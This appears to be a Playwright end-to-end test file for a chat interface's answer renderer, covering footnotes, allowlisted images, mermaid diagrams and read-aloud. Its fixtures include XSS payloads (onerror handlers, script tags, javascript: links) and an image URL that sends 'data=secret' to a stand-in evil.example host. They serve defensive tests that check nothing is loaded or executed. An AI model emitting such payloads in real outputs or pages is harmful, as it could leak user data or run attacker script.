import type { Page } from "@playwright/test";
import { connect } from "#db/client.ts";
import { expectAccessible } from "#tests/e2e/accessibility.ts";
import { lastAnswer } from "#tests/e2e/chat-page.ts";
import { expect, test } from "#tests/e2e/fixtures.ts";
import { insertConversation } from "#tests/e2e/insert-conversation.ts";
import { createSignedInUser } from "#tests/e2e/users.ts";

const footnotes = (word: string) =>
  `${word} one[^1] and two[^2].\n\n[^1]: First ${word}.\n[^2]: Second ${word}.`;

/** Opens a conversation that ends with an answer, and waits until its renderer has taken over. */
async function openAnswers(page: Page, answers: string[]): Promise<string> {
  const { email } = await createSignedInUser(page);
  const texts = answers.flatMap((answer, index) => [`Question ${index + 1}`, answer]);
  const id = await insertConversation(email, texts);
  await page.goto(`/chat/${id}`);
  await expect(page.locator('[data-rendered="live"]')).toHaveCount(answers.length, { timeout: 30_000 });
  return id;
}

test("footnotes stay on the page and within their answer, by keyboard, with an address that stays clean", async ({
  page,
}) => {
  const filler = "A paragraph.\n\n".repeat(60);
  await openAnswers(page, [footnotes("Alpha"), `${footnotes("Beta")}\n\n${filler}`]);
  const url = page.url();
  const ids = await page.evaluate(() => [...document.querySelectorAll("[id]")].map(({ id }) => id));
  expect(new Set(ids).size).toBe(ids.length);
  const [first, second] = [page.locator("[data-answer]").nth(0), page.locator("[data-answer]").nth(1)];
  await second.getByRole("link", { name: "Footnote 2" }).press("Enter");
  const note = second.getByRole("listitem").filter({ hasText: "Second Beta." });
  await expect(note).toBeFocused();
  await expect(note).toBeInViewport();
  await note.getByRole("link", { name: "Back to reference 2" }).press("Enter");
  await expect(second.getByRole("link", { name: "Footnote 2" })).toBeFocused();
  await expect(second.getByRole("link", { name: "Footnote 2" })).toBeInViewport();
  await first.getByRole("link", { name: "Footnote 1" }).click();
  await expect(first.getByRole("listitem").filter({ hasText: "First Alpha." })).toBeFocused();
  expect(page.url()).toBe(url);
  expect(page.context().pages()).toHaveLength(1);
  await expectAccessible(page);
});

const images = `![A cat](https://images.example.com/cat.png)

![secret](https://evil.example/leak.png?data=secret)

![](https://images.example.com.evil.example/x.png) ![](http://images.example.com/x.png) ![x](javascript:alert(1))

<img src="https://evil.example/html.png" onerror="window.hacked=1">`;

test("images load from allowed hosts only, and all others are links that load nothing", async ({ page }) => {
  await allowImageHosts(["images.example.com"]);
  const requested: string[] = [];
  await page.route(/^https?:\/\/(?!127\.0\.0\.1|localhost)/, (route) => {
    requested.push(route.request().url());
    const body = Buffer.from(
      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
      "base64",
    );
    return route.fulfill({ contentType: "image/png", body });
  });
  await expect
    .poll(async () => (await page.request.get("/sign-in")).headers()["content-security-policy"])
    .toContain("img-src 'self' data: blob: https://images.example.com");
  await openAnswers(page, [images]);
  const answer = lastAnswer(page);
  const cat = answer.getByRole("img", { name: "A cat" });
  await cat.scrollIntoViewIfNeeded();
  await expect.poll(() => cat.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1);
  await expect(answer.getByRole("link", { name: "Image blocked: secret (evil.example)" })).toBeVisible();
  await expect(answer.getByRole("link", { name: /Image blocked \(images\.example\.com/ })).toHaveCount(2);
  await expect(answer.locator("img")).toHaveCount(1);
  await expectAccessible(page);
  expect([...new Set(requested)]).toEqual(["https://images.example.com/cat.png"]);
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
});

const fence = (source: string) => `\`\`\`mermaid\n${source}\n\`\`\``;
const hostile = {
  script:
    'graph TD\nA["<img src=x onerror=window.parent.hacked=1><script>window.hacked=1</script>"] --> B\nclick A "javascript:window.hacked=1"',
  request:
    '%%{init: {"securityLevel": "loose", "themeCSS": "@import url(https://evil.example/a.css); * { background: url(https://evil.example/b.png) }"}}%%\ngraph TD\nA["<img src=\'https://evil.example/c.png\'>"] --> B',
  large: `graph TD\n${Array.from({ length: 700 }, (_, index) => `n${index} --> n${(index * 7) % 700}`).join("\n")}`,
  edges: `graph LR\n${Array.from({ length: 190 }, (_, index) => `n${index % 40} --> n${(index * 7 + 1) % 40}`).join("\n")}`,
};

test("a diagram is drawn in both themes without moving the text, and its source can be shown and copied", async ({
  page,
  context,
}) => {
  test.setTimeout(120_000);
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const source = "graph TD\n  A[Start] --> B{Done?}\n  B -->|yes| C[End]\n  B -->|no| A";
  await openAnswers(page, [
    `${fence(source)}\n\nAfter the diagram.\n\n${fence("graph TD\n  A[ --> nonsense {{{")}`,
  ]);
  const answer = lastAnswer(page);
  const after = answer.getByText("After the diagram.");
  const top = () => after.evaluate((element: HTMLElement) => element.offsetTop);
  const before = await top();
  const diagram = answer.getByRole("img", { name: /^Diagram/ });
  await expect(diagram).toBeVisible({ timeout: 60_000 });
  expect(await diagram.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(50);
  expect(await top()).toBe(before);
  await expect(answer.getByText("This diagram couldn’t be drawn.")).toBeVisible({ timeout: 30_000 });
  await expect(answer.getByText("nonsense")).toBeVisible();
  await expectAccessible(page);
  const light = await diagram.getAttribute("src");
  await page.emulateMedia({ colorScheme: "dark" });
  await expect.poll(() => diagram.getAttribute("src"), { timeout: 30_000 }).not.toBe(light);
  const figure = answer.locator('[data-streamdown="code-block"]').first();
  await figure.getByRole("button", { name: "Show source" }).press("Enter");
  await expect(figure.getByText("B{Done?}")).toBeVisible();
  await figure.getByRole("button", { name: "Copy source" }).press("Enter");
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(source);
  await figure.getByRole("button", { name: "Show diagram" }).press("Enter");
  await expect(diagram).toBeVisible();
  expect(await top()).toBe(before);
});

test("hostile diagrams run no script, send nothing, and do not block the page", async ({ page }) => {
  test.setTimeout(120_000);
  const requested: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes("evil.example")) requested.push(request.url());
  });
  await page.addInitScript(() => {
    const tasks: PerformanceEntry[] = [];
    new PerformanceObserver((list) => tasks.push(...list.getEntries())).observe({ type: "longtask" });
    Object.assign(window, { tasks });
  });
  await openAnswers(page, [Object.values(hostile).map(fence).join("\n\n")]);
  const answer = lastAnswer(page);
  await page.evaluate(() => {
    // Only the diagrams are measured.
    (window as unknown as { tasks: PerformanceEntry[] }).tasks.length = 0;
  });
  for (const block of await answer.locator('[data-streamdown="code-block"]').all()) {
    await block.scrollIntoViewIfNeeded();
    await expect(block.getByRole("img").or(block.getByRole("status"))).toBeVisible({ timeout: 60_000 });
  }
  const tasks = await page.evaluate(() =>
    (window as unknown as { tasks: PerformanceEntry[] }).tasks.map(({ name, duration }) => ({
      name,
      duration,
    })),
  );
  // A busy machine takes ten times as long as an idle one.
  expect(Math.max(0, ...tasks.map(({ duration }) => duration))).toBeLessThan(2_000);
  expect(requested).toEqual([]);
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
});

/** What the page asked the browser to say; headless browsers have no voices. */
type Spoken = { said: { text: string; lang: string }[]; cancels: number; end: () => void };

test("an answer is read aloud in its language without code, paused, resumed and stopped by leaving", async ({
  page,
}) => {
  await page.addInitScript(() => {
    let current: SpeechSynthesisUtterance | undefined;
    const spoken = {
      said: [] as { text: string; lang: string }[],
      cancels: 0,
      end: () => current?.onend?.(new Event("end") as SpeechSynthesisEvent),
    };
    speechSynthesis.speak = (utterance) => {
      current = utterance;
      spoken.said.push({ text: utterance.text, lang: utterance.lang });
    };
    speechSynthesis.cancel = () => {
      spoken.cancels += 1;
    };
    Object.assign(window, { spoken });
  });
  const german =
    "Das ist der erste Satz, und er ist nicht kurz: er hat viele Wörter, damit er ein Stück für sich bleibt.";
  const rest =
    "Das ist der zweite Satz, der auch nicht kurz ist und sich deshalb von dem ersten trennen lässt, wie erwartet.";
  await openAnswers(page, [`# Titel\n\n**${german}**\n\n\`\`\`js\nlet geheim;\n\`\`\`\n\n${rest}`]);
  const spoken = () =>
    page.evaluate(() => ({ ...(window as unknown as { spoken: Spoken }).spoken, end: undefined }));
  const answer = lastAnswer(page);
  await answer.getByRole("button", { name: "More actions" }).press("Enter");
  await page.getByRole("menuitem", { name: "Read aloud" }).press("Enter");
  await expect.poll(async () => (await spoken()).said.length).toBe(1);
  expect((await spoken()).said[0]?.lang).toBe("de");
  await expectAccessible(page);
  await answer.getByRole("button", { name: "Pause" }).press("Enter");
  await answer.getByRole("button", { name: "Resume" }).press("Enter");
  expect((await spoken()).said[1]).toEqual((await spoken()).said[0]);
  await page.evaluate(() => (window as unknown as { spoken: Spoken }).spoken.end());
  const { said, cancels } = await spoken();
  expect(said.map(({ text }) => text).join(" ")).not.toContain("geheim");
  expect(said.at(-1)?.text).not.toBe(said[0]?.text);
  await page.getByRole("link", { name: "New chat" }).first().click();
  await page.waitForURL("**/chat");
  await expect.poll(async () => (await spoken()).cancels).toBeGreaterThan(cancels);
});

/** Changes the operator's setting as the console does, for all processes. */
async function allowImageHosts(hosts: string[]): Promise<void> {
  const { sql } = connect(process.env.DATABASE_URL ?? "", { max: 1 });
  try {
    await sql`
      insert into operator_settings (name, value, changed_at, changed_by)
      values ('image-hosts', ${JSON.stringify(hosts)}::text::jsonb, now(), gen_random_uuid())
      on conflict (name) do update set value = excluded.value`;
    await sql`select pg_notify('parley_settings', 'image-hosts')`;
  } finally {
    await sql.end();
  }
}
